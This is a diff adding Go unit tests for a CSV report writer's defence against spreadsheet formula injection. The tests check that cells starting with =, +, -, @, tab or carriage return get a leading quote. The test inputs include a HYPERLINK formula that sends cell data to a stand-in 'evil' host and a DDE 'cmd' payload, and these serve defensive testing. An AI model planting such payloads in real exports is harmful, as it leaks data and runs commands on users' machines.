@@ -1,0 +1,70 @@
+package report
+
+import (
+	"bytes"
+	"testing"
+
+	"github.com/slawatch/slawatch/engine"
+)
+
+// A report whose names and IDs look like formulas: every such text cell
+// gets a leading quote, while the numbers we write, negative ones
+// included, stay as they are.
+//
+// The service +svc, the site =HYPERLINK(...), the item @SUM(1+1), the
+// claim ID -2+3 (a sign but no number), the reason starting with a tab
+// and the status starting with a carriage return are prefixed with '.
+// The credit -5.00, the credit_pct -2.5 and the item ID -12 (a decimal
+// number) are not; neither are the month, the deadlines or the level's
+// credit 95.00. encoding/csv quotes the cells holding " or \r, as it
+// always does.
+func TestWriteCreditsFormulas(t *testing.T) {
+	rep := &engine.Report{Month: "2026-10", Currency: "EUR", Customers: []engine.CustomerReport{{
+		ID: "acme",
+		Services: []engine.ServiceReport{{ID: "+svc", Site: `=HYPERLINK("http://evil/?"&A1,"x")`,
+			Levels: []engine.LevelReport{{Template: "t/mttr", Credit: "95.00", Items: []engine.ItemJSON{
+				{ID: "@SUM(1+1)", CreditPct: "-2.5", Credit: "-5.00", Claim: &engine.ClaimJSON{
+					ClaimBy: "2026-11-30", Status: "\rclaimed", ClaimID: "-2+3", Reason: "\t=1+1"}},
+				{ID: "-12", CreditPct: "10", Credit: "100.00"},
+			}}}}},
+	}}}
+	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason\n" +
+		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,'@SUM(1+1),-2.5,-5.00,EUR,95.00,false,2026-11-30,,"'` + "\r" + `claimed",'-2+3,,'` + "\t=1+1\n" +
+		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,-12,10,100.00,EUR,95.00,false,,,,,,` + "\n"
+	var b bytes.Buffer
+	if err := WriteCredits(&b, rep); err != nil {
+		t.Fatal(err)
+	}
+	if b.String() != want {
+		t.Errorf("got\n%q\nwant\n%q", b.String(), want)
+	}
+}
+
+func TestSafeCell(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"", ""},
+		{"acme", "acme"},
+		{"a=b", "a=b"},
+		{"=1+1", "'=1+1"},
+		{"+svc", "'+svc"},
+		{"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"-", "'-"},
+		{"+", "'+"},
+		{"-.5", "'-.5"},
+		{"-5.", "'-5."},
+		{"-1e5", "'-1e5"},
+		{"-2+3", "'-2+3"},
+		{"-5.00", "-5.00"},
+		{"-12", "-12"},
+		{"+3", "+3"},
+		{"12.50", "12.50"},
+		{"2026-10", "2026-10"},
+	} {
+		if got := safeCell(tc.in); got != tc.want {
+			t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
